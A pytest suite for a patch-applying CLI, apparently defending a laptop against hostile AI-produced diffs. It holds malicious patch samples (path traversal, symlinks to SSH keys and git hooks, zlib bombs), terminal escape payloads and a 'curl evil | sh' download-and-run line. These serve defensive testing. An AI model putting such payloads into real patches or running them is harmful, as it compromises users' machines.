"""The laptop treats every diff as hostile (issue 8). A box that lies (tests/fake_box.py, a
real HTTP server) hands the real CLI malicious patches, job records and AI text; each patch
is refused as a whole, or shown truthfully, and the laptop's files, its .git folder and a
folder outside the project stay byte for byte the same. Terminal output is read through a
real pseudo-terminal and must hold no control bytes but Patchwire's own colours."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import sys
import zlib
from pathlib import Path

import pytest

import conftest
from conftest import Laptop, git, make_repo, tree_digest
from fake_box import EMPTY_TREE, FakeBox
from test_apply import as_walls_account


# ------------------------------------------------------------------ patch makers


def new_file(path: bytes, text: bytes, mode: bytes = b"100644") -> bytes:
    lines = text.splitlines(keepends=True)
    return (b"diff --git a/%s b/%s\nnew file mode %s\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1,%d @@\n"
            % (path, path, mode, path, len(lines)) + b"".join(b"+" + l for l in lines))


def new_link(path: bytes, target: bytes) -> bytes:
    return (b"diff --git a/%s b/%s\nnew file mode 120000\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1 @@\n+%s\n"
            b"\\ No newline at end of file\n" % (path, path, path, target))


def edit(path: bytes, old: bytes, new: bytes) -> bytes:
    return (b"diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n@@ -1 +1 @@\n-%s+%s" % (path, path, path, path, old, new))


def delete(path: bytes, text: bytes) -> bytes:
    lines = text.splitlines(keepends=True)
    return (b"diff --git a/%s b/%s\ndeleted file mode 100644\n--- a/%s\n+++ /dev/null\n@@ -1,%d +0,0 @@\n"
            % (path, path, path, len(lines)) + b"".join(b"-" + l for l in lines))


def delete_link(path: bytes, target: bytes) -> bytes:
    return (b"diff --git a/%s b/%s\ndeleted file mode 120000\n--- a/%s\n+++ /dev/null\n@@ -1 +0,0 @@\n-%s\n"
            b"\\ No newline at end of file\n" % (path, path, path, target))


def base85_lines(data: bytes) -> bytes:
    """git's base85 lines of binary data: 52 bytes a line, led by its count (A-Z 1-26, a-z 27-52)."""
    out = []
    for at in range(0, len(data), 52):
        chunk = data[at:at + 52]
        count = ord("A") + len(chunk) - 1 if len(chunk) <= 26 else ord("a") + len(chunk) - 27
        out.append(bytes([count]) + base64.b85encode(chunk + b"\0" * (-len(chunk) % 4)) + b"\n")
    return b"".join(out)


def binary_block(kind: bytes, declared: int, deflated: bytes) -> bytes:
    return b"%s %d\n%s\n" % (kind, declared, base85_lines(deflated))


def new_binary(path: bytes, declared: int, deflated: bytes) -> bytes:
    """A new binary file whose `literal` line says `declared` bytes, whatever `deflated` holds."""
    return (b"diff --git a/%s b/%s\nnew file mode 100644\nindex %s..%s\nGIT binary patch\n%s%s"
            % (path, path, b"0" * 40, b"1" * 40, binary_block(b"literal", declared, deflated),
               binary_block(b"literal", 0, zlib.compress(b""))))


def varint(n: int) -> bytes:
    """A size as a git delta starts with: 7 bits a byte, low bits first."""
    out = bytearray()
    while True:
        out.append(n & 0x7F | (0x80 if n >> 7 else 0))
        n >>= 7
        if not n:
            return bytes(out)


def deflated_zeros(size: int) -> bytes:
    """`size` zero bytes as zlib data, about a thousandth of the size, made a MB at a time."""
    deflater, mb = zlib.compressobj(9), bytes(2 ** 20)
    return b"".join([deflater.compress(mb) for _ in range(size // 2 ** 20)] + [deflater.flush()])


HONEST = new_file(b"docs/new.md", b"hello\n")
OUTSIDE_HUNK = b"--- /dev/null\n+++ b/tests/conftest.py\n@@ -0,0 +1 @@\n+import os\n"
BINARY_HOOK = (b"diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n"
               b"index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n"
               b"GIT binary patch\nliteral 3\nKcmZ?wbYK7g00008\n\nliteral 0\nHcmV?d00001\n\n")

# (name, patch, a phrase the refusal must contain)
CORPUS = [
    ("unified diff before the first section", OUTSIDE_HUNK + HONEST, "outside a `diff --git` section"),
    ("unified diff between sections", HONEST + OUTSIDE_HUNK + new_file(b"docs/b.md", b"b\n"),
     "text git does not write here"),
    ("text after the last section", HONEST + b"trailing words\n", "text git does not write here"),
    ("header naming two files",
     b"diff --git a/src/helper.py b/.vscode/tasks.json\nnew file mode 100644\n--- /dev/null\n"
     b"+++ b/.vscode/tasks.json\n@@ -0,0 +1 @@\n+{}\n", "names other files"),
    ("---/+++ naming two files",
     b"diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/.envrc\n@@ -1 +1 @@\n-# demo\n+x\n",
     "name two files"),
    ("rename lines against the header",
     b"diff --git a/README.md b/docs/readme.md\nsimilarity index 100%\nrename from README.md\n"
     b"rename to .vscode/settings.json\n", "names other files"),
    ("write beneath an ignored symlink out of the project", new_file(b"data/x", b"pwned\n"),
     "beyond the symlink 'data'"),
    ("write beneath a tracked symlink out of the project", edit(b"shared/secret.txt", b"secret\n", b"pwned\n"),
     "beyond the symlink 'shared'"),
    ("symlink into .git/hooks", new_link(b"tools", b".git/hooks"), "inside .git"),
    ("symlink to a key", new_link(b"key", b"/root/.ssh/id_rsa"), "absolute target"),
    ("symlink out of the project", new_link(b"docs/up", b"../../outside/secret.txt"), "outside the project"),
    ("symlink chain through a link here", new_link(b"y", b"data/secret.txt"), "through the symlink 'data'"),
    ("symlink chain within the patch",
     new_link(b"p2", b".") + new_link(b"p1", b"p2/../outside/secret.txt"), "leads out of the project"),
    ("rename moving a relative symlink out",
     b"diff --git a/docs/readme-link b/readme-link\nsimilarity index 100%\nrename from docs/readme-link\n"
     b"rename to readme-link\n", "outside the project"),
    (".patchwire.toml", edit(b".patchwire.toml", b"[sync]\n", b"[sync]\n"), "Patchwire's own settings"),
    (".patchwire.toml in another case, deeper", new_file(b"sub/.PatchWire.TOML", b"x = 1\n"),
     "Patchwire's own settings"),
    ("the token file", edit(b".pwtoken", b"pw_fake\n", b"pw_other\n"), "token file"),
    (".git", new_file(b".git/hooks/post-checkout", b"#!/bin/sh\n", b"100755"), "git's own folder"),
    (".GIT", new_file(b".GIT/hooks/post-checkout", b"#!/bin/sh\n"), "git's own folder"),
    (".git.", new_file(b".git./config", b"x\n"), "git's own folder"),
    ("git~1", new_file(b"GIT~1/config", b"x\n"), "git's own folder"),
    (".git with an HFS+ ignored character", new_file(".g\u200cit/config".encode(), b"x\n"), "git's own folder"),
    ("nested .git", new_file(b"sub/.git/config", b"x\n"), "git's own folder"),
    ("binary patch to .git", BINARY_HOOK, "git's own folder"),
    ("rename into .git",
     b"diff --git a/README.md b/.git/hooks/post-checkout\nsimilarity index 100%\nrename from README.md\n"
     b"rename to .git/hooks/post-checkout\n", "git's own folder"),
    ("path with a newline", b'diff --git "a/x\\ny" "b/x\\ny"\nnew file mode 100644\n--- /dev/null\n'
     b'+++ "b/x\\ny"\n@@ -0,0 +1 @@\n+x\n', "control character"),
    ("escape sequence in a name", b'diff --git "a/\\033[2Jx" "b/\\033[2Jx"\nnew file mode 100644\n'
     b'--- /dev/null\n+++ "b/\\033[2Jx"\n@@ -0,0 +1 @@\n+x\n', "control character"),
    ("CRLF in headers", HONEST.replace(b"\n", b"\r\n"), "refused the whole patch"),
    ("hunk for a file outside the project",
     b"diff --git a/../outside/secret.txt b/../outside/secret.txt\n--- a/../outside/secret.txt\n"
     b"+++ b/../outside/secret.txt\n@@ -1 +1 @@\n-secret\n+pwned\n", "'..'"),
    ("absolute path", new_file(b"/tmp/pw-absolute", b"x\n"), "absolute or empty path"),
    ("more lines than the hunk says", HONEST + b"+smuggled\n", "text git does not write here"),
    ("submodule", b"diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n"
     b"+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit 1234567\n", "submodule (gitlink) change to 'sub'"),
    ("binary change without content", b"diff --git a/img.bin b/img.bin\nindex 1111111..2222222 100644\n"
     b"Binary files a/img.bin and b/img.bin differ\n", "without its content"),
    ("file turned symlink in place", b"diff --git a/README.md b/README.md\nold mode 100644\nnew mode 120000\n",
     "in place"),
    ("two spellings of one file", edit(b"README.md", b"# demo\n", b"# one\n") + new_file(b"readme.md", b"two\n"),
     "changed by two sections"),
    ("cut short", HONEST[:-1], "does not end with a newline"),
    ("an index line making a new file executable",
     HONEST.replace(b"--- /dev/null", b"index 0000000..1111111 100755\n--- /dev/null"), "contradicts the mode"),
    # a count past 4300 digits is one Python's int() refuses (3.11+): a malformed header, not a traceback
    ("a hunk header with thousands of digits", b"diff --git a/README.md b/README.md\n--- a/README.md\n"
     b"+++ b/README.md\n@@ -1," + b"1" * 5000 + b" +1 @@\n-# demo\n+x\n", "a malformed hunk header"),
    ("a hunk header with a line number past 64 bits",
     edit(b"README.md", b"# demo\n", b"x\n").replace(b"@@ -1 +1 @@", b"@@ -1 +" + b"9" * 20 + b" @@"),
     "a malformed hunk header"),
    # names longer than a disk takes: the OS answers ENAMETOOLONG to any look at them
    ("a folder name over 255 bytes", new_file(b"x" * 300 + b"/y.txt", b"x\n"), "a name of 300 bytes"),
    ("a file name over 255 bytes", new_file(b"docs/" + "\u00e9".encode() * 128, b"x\n"), "a name of 256 bytes"),
    ("a symlink target over 255 bytes", new_link(b"docs/l", b"z" * 300), "a name of 300 bytes"),
    # zlib data inflates up to 1000 times: the size a binary block says is held to a limit, and checked
    ("binary data inflating to more than it says", new_binary(b"docs/img.bin", 4, zlib.compress(b"\0\1\2\3\4")),
     "does not inflate to exactly the 4 bytes its `literal` line says"),
    ("binary data inflating to less than it says", new_binary(b"docs/img.bin", 6, zlib.compress(b"\0\1\2\3\4")),
     "does not inflate to exactly the 6 bytes"),
    ("a binary file of a TB", new_binary(b"docs/img.bin", 2 ** 40, zlib.compress(b"\0" * 16)),
     "a binary block of 1024.0 GB, over the laptop's limit of 50.0 MB"),
]


# ------------------------------------------------------------------ the laptop, the box, the world


@pytest.fixture
def world(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_bytes(b"secret\n")
    root = make_repo(tmp_path / "laptop", {
        "README.md": b"# demo\n", "src/helper.py": b"def helper():\n    return 1\n",
        ".gitignore": b"data\n.pwtoken\n", "docs/a.md": b"a\n", "docs/b.md": b"b\n",
        "docs/c.md": b"c\n", "docs/d.md": b"d\n", "docs/e.md": b"e\n"})
    (root / "shared").symlink_to("../outside")  # the user's own links: kept, never written through
    (root / "docs/readme-link").symlink_to("../README.md")
    git(root, "add", "shared", "docs/readme-link")
    git(root, "commit", "-qm", "links")
    (root / "data").symlink_to(outside)  # ignored
    (root / ".pwtoken").write_text("pw_fake\n")
    box = FakeBox(tmp_path / "mirror")
    lap = Laptop(root)
    lap.run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
    yield lap, box, outside
    box.close()


def state(lap: Laptop, outside: Path) -> tuple:
    """The user's files, the user's git folder (less Patchwire's own state and the object
    store a sync adds to) and a folder outside the project."""
    return (tree_digest(lap.root), tree_digest(lap.root / ".git", skip=("patchwire", "objects")),
            tree_digest(outside, skip=()))


def refused(result, phrase: str) -> None:
    assert result.returncode == 5, f"exit {result.returncode}\n{result.err}\n{result.out}"
    assert "refused the whole patch, nothing was written" in result.err and phrase in result.err, result.err
    assert "Traceback" not in result.err


@pytest.mark.parametrize("name, patch, phrase", CORPUS, ids=[c[0] for c in CORPUS])
def test_hostile_patch_is_refused_and_nothing_changes(world, name, patch, phrase):
    lap, box, outside = world
    box.add_job("abc123", patch)
    before = state(lap, outside)
    refused(lap.run("apply", "abc123", "--yes", "--keep-conflicts"), phrase)
    assert state(lap, outside) == before


def test_diff_json_refuses_with_the_usual_error_object(world):
    lap, box, outside = world
    picked = ("header naming two files", "write beneath a tracked symlink out of the project",
              "symlink into .git/hooks")  # one refusal each of the reader, the disk and a link
    for n, (_, patch, phrase) in enumerate(c for c in CORPUS if c[0] in picked):
        box.add_job(f"abc12{n}", patch)
        error = lap.run("diff", f"abc12{n}", "--json")
        assert error.returncode == 5
        body = json.loads(error.out)
        assert phrase in body["error"] and body["exit_status"] == 5 and "Threat model" in body["hint"]


# The CLI run by a parent that reports, last on stderr, the most memory the CLI (or a git it
# ran) held at once: ru_maxrss of the children it waited for, in KB (Linux).
MAXRSS = ("import resource, subprocess, sys\n"
          "code = subprocess.run(sys.argv[1:]).returncode\n"
          "sys.stderr.write('\\nmaxrss %d\\n' % resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
          "sys.exit(code)\n")


@pytest.mark.parametrize("declared", [16, 256 * 2 ** 20], ids=["a lie", "the truth, over the limit"])
def test_a_zlib_bomb_is_refused_before_it_fills_the_memory(world, declared):
    """A 330 KB patch whose zlib data inflates to 256 MB (a 788 KB one makes a GB): refused by
    `diff`, `diff --json` and `apply`, which never hold more than a few tens of MB, whether
    its `literal` line tells the truth (over the laptop's limit: not inflated at all) or
    says 16 bytes (inflating stops at the 17th)."""
    lap, box, outside = world
    box.add_job("abc321", new_binary(b"docs/img.bin", declared, deflated_zeros(256 * 2 ** 20)))
    measured = Laptop(lap.root, program=[sys.executable, "-c", MAXRSS, *lap.program])
    phrase = ("does not inflate to exactly the 16 bytes its `literal` line says" if declared == 16
              else "a binary block of 256.0 MB, over the laptop's limit of 50.0 MB")
    before = state(lap, outside)
    for args in (["diff", "abc321"], ["diff", "abc321", "--json"], ["apply", "abc321", "--yes"]):
        result = measured.run(*args)
        assert int(result.err.rsplit("maxrss ", 1)[1]) < 150 * 1024, f"{args}: {result.err[-300:]}"
        shown = json.loads(result.out) if "--json" in args else {"error": result.err}
        assert result.returncode == 5 and phrase in shown["error"] and "Traceback" not in result.err, result.err
    assert state(lap, outside) == before


def test_a_binary_delta_is_held_to_the_size_of_the_file_it_makes(world):
    """A delta of a few bytes that says it makes a file of a TB out of one of 3 bytes synced
    from here: git apply would set out to make it; the laptop refuses it first."""
    lap, box, outside = world
    mine = b"\0\1\2"
    (lap.root / "docs/img.bin").write_bytes(mine)
    mine_id = hashlib.sha1(b"blob 3\0" + mine).hexdigest().encode()
    delta = varint(3) + varint(2 ** 40) + b"\x01x"  # (what it makes need not be there: it is never made)
    box.add_job("abc987", b"diff --git a/docs/img.bin b/docs/img.bin\nindex %s..%s 100644\nGIT binary patch\n%s%s"
                % (mine_id, b"2" * 40, binary_block(b"delta", len(delta), zlib.compress(delta)),
                   binary_block(b"literal", 3, zlib.compress(mine))), ask=True)
    phrase = "a binary delta for 'docs/img.bin' that makes a file of 1024.0 GB, over the laptop's limit of 50.0 MB"
    before = state(lap, outside)
    refused(lap.run("ask", "--no-apply", "go"), phrase)  # its sync puts img.bin in Patchwire's store
    refused(lap.run("apply", "abc987", "--yes"), phrase)
    assert state(lap, outside) == before


def test_numbers_no_int_can_hold_are_refused_by_every_command(world):
    """A hunk header's count of 5000 digits (Python 3.11+ refuses int() of over 4300): the
    reader refuses it as malformed, in `diff`, `diff --json` and `apply` alike."""
    lap, box, outside = world
    box.add_job("abc654", next(c[1] for c in CORPUS if c[0] == "a hunk header with thousands of digits"))
    before = state(lap, outside)
    refused(lap.run("diff", "abc654"), "line 4: a malformed hunk header: b'@@ -1,111")
    refused(lap.run("apply", "abc654", "--yes"), "a malformed hunk header")
    error = lap.run("diff", "abc654", "--json")
    assert error.returncode == 5 and "a malformed hunk header" in json.loads(error.out)["error"], error.err
    assert state(lap, outside) == before


SELECTED = [c for c in CORPUS if c[0] in (
    "unified diff before the first section", "header naming two files", "write beneath an ignored symlink "
    "out of the project", ".patchwire.toml")]


@pytest.mark.parametrize("name, patch, phrase", SELECTED, ids=[c[0] for c in SELECTED])
def test_every_way_in_refuses_it_and_undo_stays_true(world, name, patch, phrase):
    lap, box, outside = world
    original = state(lap, outside)
    box.add_job("aaa111", edit(b"README.md", b"# demo\n", b"# honest\n"), ask=True)
    lap.run("ask", "--yes", "go", check=0)
    assert (lap.root / "README.md").read_bytes() == b"# honest\n"
    applied = state(lap, outside)
    box.add_job("bbb222", patch, ask=True)
    refused(lap.run("ask", "--yes", "again"), phrase)
    for extra in ([], ["--only", "docs"], ["--exclude", ".vscode", "tests", ".git", "data"]):
        refused(lap.run("apply", "bbb222", "--yes", *extra), phrase)
    out = conftest.drive_pty(lap, ["apply", "bbb222", "-i"], ["y"] * 4, prompts=(b",?]? ",))
    assert "refused the whole patch" in out and phrase in out
    assert state(lap, outside) == applied
    assert lap.run("log", check=0).out.count("job ") == 1
    lap.run("apply", "--undo", check=0)  # undoes the honest job, and only it
    assert state(lap, outside) == original


def test_the_merge_base_is_the_laptops_record_never_the_boxs(world):
    lap, box, outside = world
    before = state(lap, outside)
    # asked elsewhere: no record here. The box says "empty tree", which would make the patch's
    # new README.md merge with yours as if nothing had been synced.
    box.add_job("ccc333", new_file(b"README.md", b"pwned\n"), tree=EMPTY_TREE)
    result = lap.run("apply", "ccc333", "--yes", "--keep-conflicts")
    # a new file onto one that is here: refused before any merge (no write where nothing was reviewed)
    assert result.returncode == 5 and "README.md is already here" in result.err, result.err
    assert state(lap, outside) == before
    # asked here: the recorded tree is the base, whatever the box says
    box.add_job("ddd444", new_file(b"README.md", b"pwned\n"), tree=EMPTY_TREE, ask=True)
    asked = lap.run("ask", "--no-apply", "go", check=0)
    assert "kept" in asked.err or "not applied" in asked.err
    result = lap.run("apply", "ddd444", "--yes", "--keep-conflicts")
    assert result.returncode == 5 and "README.md is already here" in result.err, result.err
    assert state(lap, outside) == before


def test_a_file_in_the_way_that_cannot_be_moved_brings_back_those_moved_before_it(srv_place):
    """`--overwrite-untracked` sets aside two files of yours, in the patch's order: notes.txt
    is moved out, then ro/scratch.txt cannot be (a read-only folder: only an ordinary account
    sees that, root writes anywhere). notes.txt comes back byte for byte, the message names
    the file, the reason and the fix; once the folder is writable the same apply works, and
    its undo gives both files back."""
    root = make_repo(srv_place / "laptop", {"README.md": b"hi\n", "ro/keep.md": b"k\n",
                                            ".gitignore": b".pwtoken\nnotes.txt\nro/scratch.txt\n"})
    (root / ".pwtoken").write_text("pw_fake\n")
    (root / ".pwtoken").chmod(0o600)
    box = FakeBox(srv_place / "mirror")
    try:
        Laptop(root).run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
        box.add_job("abc246", new_file(b"notes.txt", b"AI notes\n") + new_file(b"ro/scratch.txt", b"AI scratch\n"))
        (root / "notes.txt").write_bytes(b"my precious notes\n")
        (root / "ro/scratch.txt").write_bytes(b"mine\n")
        account = as_walls_account(Laptop(root), srv_place)
        (root / "ro").chmod(0o555)
        before = tree_digest(root)

        failed = account.run("apply", "abc246", "--yes", "--overwrite-untracked")
        assert failed.returncode == 5 and "Traceback" not in failed.err, failed.err
        assert ("could not move ro/scratch.txt out of the way (Permission denied); the files set aside before it "
                "were put back, nothing was changed") in failed.err, failed.err
        assert ("make ro writable (`chmod u+w ro`), then run `patchwire apply abc246 --overwrite-untracked` "
                "again") in failed.err, failed.err
        assert tree_digest(root) == before and (root / "notes.txt").read_bytes() == b"my precious notes\n"

        (root / "ro").chmod(0o755)
        account.run("apply", "abc246", "--yes", "--overwrite-untracked", check=0)
        assert (root / "notes.txt").read_bytes() == b"AI notes\n"
        account.run("apply", "--undo", check=0)
        assert tree_digest(root) == before
    finally:
        box.close()


@pytest.mark.parametrize("how", ["plain", "3-way"])
def test_a_deleted_link_is_gone_before_anything_is_written_where_it_was(world, how):
    """Case 3c: the patch adds `shared/secret.txt` (listed first), deletes the symlink
    `shared` (to a folder outside) and adds a symlink `zzz`; a local edit forces the 3-way
    merge, where Patchwire writes the files itself."""
    lap, box, outside = world
    patch = (new_file(b"shared/secret.txt", b"mine now\n") + delete(b"docs/a.md", b"a\n")
             + delete_link(b"shared", b"../outside") + new_link(b"zzz", b"README.md"))
    box.add_job("eee555", patch, ask=True)
    lap.run("ask", "--no-apply", "go", check=0)
    if how == "3-way":
        (lap.root / "docs/a.md").write_bytes(b"edited here\n")  # plain apply no longer fits
    outside_before = tree_digest(outside, skip=())
    result = lap.run("apply", "eee555", "--yes", "--keep-conflicts", check=0)
    assert ("3-way" in result.err) == (how == "3-way")
    assert tree_digest(outside, skip=()) == outside_before
    assert not (lap.root / "shared").is_symlink()
    assert (lap.root / "shared/secret.txt").read_bytes() == b"mine now\n"
    assert os.readlink(lap.root / "zzz") == "README.md"
    lap.run("apply", "--undo", check=0)
    assert os.readlink(lap.root / "shared") == "../outside"
    assert tree_digest(outside, skip=()) == outside_before and not (lap.root / "zzz").exists()


def test_undo_never_follows_a_link_that_appeared_since(world):
    lap, box, outside = world
    box.add_job("fff666", new_file(b"logs/x.txt", b"x\n"))
    lap.run("apply", "fff666", "--yes", check=0)
    os.unlink(lap.root / "logs/x.txt")
    os.rmdir(lap.root / "logs")
    os.symlink(outside, lap.root / "logs")  # the path now leads outside
    (outside / "x.txt").write_bytes(b"x\n")  # and what it finds there looks like the applied file
    before = tree_digest(outside, skip=())
    result = lap.run("apply", "--undo")
    assert result.returncode == 5 and "Traceback" not in result.err
    assert "symlink" in result.err
    assert tree_digest(outside, skip=()) == before


# ------------------------------------------------------------------ shown truthfully


CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def terminal_text(out: str) -> str:
    """What a terminal showed, less Patchwire's own colour codes: it must hold no other
    control characters (a pty turns each newline into CR LF)."""
    bare = re.sub("\x1b\\[[0-9;]*m", "", out)
    found = CONTROL.findall(bare)
    assert not found, f"raw control bytes reached the terminal: {found[:5]!r}"
    return bare


EVIL_TEXT = ("\x1b]0;owned title\x07\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[H\u009b31mfake\rreal"
             " \u202eevil\u202c")


def test_escapes_from_the_box_never_reach_the_terminal_raw(world):
    lap, box, outside = world
    fake_preview = b"\x1b[2J\x1b[H  docs/harmless.md  modified +1 -0\x1b]0;title\x07\r\n"
    patch = new_file(b"docs/notes.md", b"first\n" + fake_preview + b"last\n")
    box.add_job("abc777", patch, ask=True, events=[
        {"type": "text", "text": EVIL_TEXT + "\nsecond line \x1b[1A"},
        {"type": "tool", "name": "\x1b[31mRead\x1b]0;t\x07", "detail": "a\nb\x1b[K"},
        {"type": "tool_error", "text": "\x9b2J bad"}])
    before = state(lap, outside)
    out = conftest.drive_pty(lap, ["ask", "go"], ["no"], prompts=(b"for later",))
    text = terminal_text(out)
    assert "^[[2J" in text and "^[]52;c;cHduZWQ=^G" in text and "<U+009B>31mfake^Mreal" in text
    assert "<U+202E>evil" in text and "> ^[[31mRead^[]0;t^G" in text
    assert "+^[[2J^[[H  docs/harmless.md  modified +1 -0^[]0;title^G^M" in text
    assert "kept job abc777" in text
    assert state(lap, outside) == before
    # the exact bytes stay available where no terminal reads them
    assert lap.run("diff", "abc777", check=0).stdout == patch
    diffed = json.loads(lap.run("diff", "abc777", "--json", check=0).out)
    assert diffed["patch"].encode() == patch


def test_errors_from_the_box_are_sanitised_too(world):
    lap, box, outside = world
    box.add_job("bad888", HONEST, status="failed")
    box.jobs["bad888"]["status"] = "\x1b]0;owned\x07failed"
    out = conftest.drive_pty(lap, ["apply", "bad888"], [], prompts=())
    text = terminal_text(out)
    assert "is ^[]0;owned^Gfailed: nothing to apply" in text


def test_look_closely_names_what_runs_by_itself(world):
    lap, box, outside = world
    patch = (new_link(b"docs/readme", b"../README.md") + new_file(b"run.sh", b"#!/bin/sh\n", b"100755")
             + new_file(b".github/workflows/ci.yml", b"on: push\n") + new_file(b".envrc", b"export X=1\n")
             + new_file("docs/gnp.\u202ecod".encode(), b"x\n")
             + b"".join(delete(b"docs/%s.md" % n, b"%s\n" % n) for n in (b"a", b"b", b"c", b"d", b"e")))
    box.add_job("abc999", patch, ask=True)
    lap.run("ask", "--no-apply", "go", check=0)
    diffed = json.loads(lap.run("diff", "abc999", "--json", check=0).out)
    assert diffed["look_closely"] == [
        {"path": "docs/readme", "category": "symlink", "reason": "new symlink -> ../README.md"},
        {"path": "run.sh", "category": "executable", "reason": "new executable file"},
        {"path": ".github/workflows/ci.yml", "category": "CI",
         "reason": "CI workflow (runs with the repository's secrets)"},
        {"path": ".envrc", "category": "build script or hook", "reason": "runs when you cd here (direnv)"},
        {"path": "docs/gnp.\u202ecod", "category": "lookalike name",
         "reason": "its name holds invisible or direction-changing characters"},
        {"path": "docs", "category": "deletions", "reason": "deletes 5 files"}]
    assert [f["path"] for f in diffed["files"]][:2] == ["docs/readme", "run.sh"]
    # `apply` without a job previews and asks, the notes above the diff; `n` keeps everything
    before = state(lap, outside)
    out = terminal_text(conftest.drive_pty(lap, ["apply"], ["n"], prompts=(b"for later",)))
    notes, diff = out.index("Look closely:"), out.index("diff --git a/docs/readme")
    assert notes < out.index("docs/readme: new symlink -> ../README.md") < diff
    assert re.search("docs/readme +new symlink", out) and "kept job abc999" in out
    assert "docs/gnp.<U+202E>cod" in out
    assert state(lap, outside) == before


LONG = b"".join(new_file(b"docs/n%03d.md" % i, b"".join(b"line %d\n" % k for k in range(12))) for i in range(800))


@pytest.mark.parametrize("pager", ["exec cat", "exit 0"], ids=["read to the end", "quit at once"])
def test_a_long_patch_with_a_bad_last_file_is_refused_before_the_question(world, tmp_path, pager):
    """The preview shows a long patch's first files before it reads its last ones (issue 27);
    a last file the strict reader or the result check refuses still stops everything before
    the question and before anything is written, whether the reader paged to the end or
    quit the pager at once, through `apply` and through `ask`."""
    lap, box, outside = world
    script = tmp_path / "pager.sh"
    script.write_text(f"#!/bin/sh\n{pager}\n")
    script.chmod(0o755)
    lap = Laptop(lap.root, env={"PAGER": str(script)})
    before = state(lap, outside)
    cases = [("abc701", LONG + HONEST + b"+smuggled\n", "text git does not write here"),
             ("abc702", LONG + edit(b"README.md", b"# not synced\n", b"# pwned\n"), "not those of the synced file")]
    for job, patch, phrase in cases:
        box.add_job(job, patch)
        out = terminal_text(conftest.drive_pty(lap, ["apply", job], [""], prompts=(b"for later",)))
        assert "patchwire: refused the whole patch, nothing was written" in out and phrase in out, out[-2000:]
        assert "for later" not in out and "applied job" not in out
        assert ("+line 11" in out) == (pager == "exec cat")  # the first files were shown first
        assert state(lap, outside) == before
    box.add_job("abc703", cases[0][1], ask=True)
    out = terminal_text(conftest.drive_pty(lap, ["ask", "go"], [""], prompts=(b"for later",)))
    assert "patchwire: refused the whole patch, nothing was written" in out and "for later" not in out
    assert state(lap, outside) == before
    assert lap.run("log", check=0).out.count("job ") == 0


def test_apply_without_a_terminal_needs_yes(world):
    lap, box, outside = world
    box.add_job("abc000", HONEST)
    result = lap.run("apply", "abc000")
    assert result.returncode == 2 and "pass --yes" in result.err
    assert json.loads(lap.run("apply", "abc000", "--json").out)["exit_status"] == 2
    assert not (lap.root / "docs/new.md").exists()
    applied = json.loads(lap.run("apply", "abc000", "--yes", "--json", check=0).out)
    assert applied["files"] == ["docs/new.md"] and applied["how"] == "plain"


def test_interactive_shows_a_new_files_content_before_asking(world):
    lap, box, outside = world
    box.add_job("abc444", new_file(b"docs/new.sh", b"#!/bin/sh\ncurl evil | sh\n", b"100755"))
    out = terminal_text(conftest.drive_pty(lap, ["apply", "abc444", "-i"], ["n"], prompts=(b",?]? ",)))
    assert out.index("+curl evil | sh") < out.index("Apply this whole file")
    assert "look closely: new executable file" in out
    assert not (lap.root / "docs/new.sh").exists()


def test_an_honest_patch_with_links_modes_and_odd_names_still_applies(world):
    lap, box, outside = world
    name = "docs/notes with spaces/R\u00e9sum\u00e9.txt".encode()
    patch = (new_link(b"docs/link", b"../src/helper.py") + new_file(b"bin/tool", b"#!/bin/sh\n", b"100755")
             + b"diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\t\n@@ -0,0 +1 @@\n+caf\xc3\xa9\r\n"
             % (name, name, name)
             + b"diff --git a/docs/readme-link b/docs/readme-link2\nsimilarity index 100%\n"
               b"rename from docs/readme-link\nrename to docs/readme-link2\n"
             + b"diff --git a/src/helper.py b/src/helper.py\nold mode 100644\nnew mode 100755\n"
             + delete(b"docs/e.md", b"e\n") + new_link(b"docs/e.md", b"a.md"))  # a file became a link
    box.add_job("abc555", patch)
    lap.run("apply", "abc555", "--yes", check=0)
    root = lap.root
    assert os.readlink(root / "docs/link") == "../src/helper.py"
    assert os.access(root / "bin/tool", os.X_OK) and os.access(root / "src/helper.py", os.X_OK)
    assert (root / name.decode()).read_bytes() == "caf\u00e9\r\n".encode()
    assert os.readlink(root / "docs/readme-link2") == "../README.md"
    assert os.readlink(root / "docs/e.md") == "a.md"


def test_the_reader_takes_what_git_writes_and_nothing_else():
    import patchwire
    blank = b"diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n\n-b\n+c\n"  # diff.suppressBlankEmpty
    assert [(f.path, f.added, f.removed) for f in patchwire.split_patch(blank)] == [("f", 1, 1)]
    quoted = (b'diff --git "a/t\\tx" "b/t\\303\\251"\nsimilarity index 100%\n'
              b'rename from "t\\tx"\nrename to "t\\303\\251"\n')  # core.quotePath: both spellings
    with pytest.raises(patchwire.PatchRefused, match="control character"):
        patchwire.split_patch(quoted)
    accented = b'diff --git a/x "b/t\\303\\251"\nsimilarity index 100%\nrename from x\nrename to t\xc3\xa9\n'
    assert patchwire.split_patch(accented)[0].path == "t\u00e9"


def test_sanitize_shows_every_control_character():
    import patchwire
    raw = "a\x1b[2J\x07\tb\r\x7f\u009b\u202e" + b"\xe9".decode("utf-8", "surrogateescape") + "\n"
    assert patchwire.sanitize(raw) == "a^[[2J^G\tb^M^?<U+009B><U+202E>\\xe9^J"
    assert patchwire.sanitize(raw, keep_newlines=True).endswith("\\xe9\n")
    # variation selectors make another name that looks the same (`allowed\ufe00` is not `allowed`
    # to Python or JavaScript), and the format and default-ignorable characters Unicode added
    raw = "allowed\ufe00 = x; a1\ufe0f \u0890 \U00013430 \U0001bca0 \ufff0 \U000e0100 \U000e0fff; \u2764\ufe0f \u00a9\ufe0e"
